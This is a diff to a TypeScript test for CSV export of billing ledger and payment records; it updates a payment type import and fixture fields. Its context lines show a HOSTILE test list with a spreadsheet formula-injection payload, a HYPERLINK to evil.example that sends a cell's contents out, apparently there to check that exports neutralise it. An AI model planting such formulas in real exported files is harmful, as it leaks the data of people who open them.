@@ -7,7 +7,7 @@ import { toTables } from '../../../../worker/privacy/export/tables';
 import { LEDGER_COLUMNS } from '../../../../worker/billing/ledger/ledger-csv';
 import type { StatementLine } from '../../../../worker/billing/ledger/statement.service';
 import { PAYMENT_COLUMNS } from '../../../../worker/billing/payments/payments-csv';
-import type { Payment } from '../../../../worker/billing/payments/payment-records';
+import type { AnnotatedPayment } from '../../../../worker/billing/payments/payment-annotations';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?d="&A2,"Your code is 123456")\nThanks',
@@ -61,7 +61,9 @@ const PAYMENT = {
   createdAt: 1,
   paidAt: 1,
   endedAt: 1,
-} as unknown as Payment;
+  externalId: 'mine',
+  metadata: { plan: 'gold' },
+} as unknown as AnnotatedPayment;
 
 const written = <Row>(columns: readonly Column<Row>[], row: Row) =>
   csvHeader(columns) + csvRows(columns, [row]);
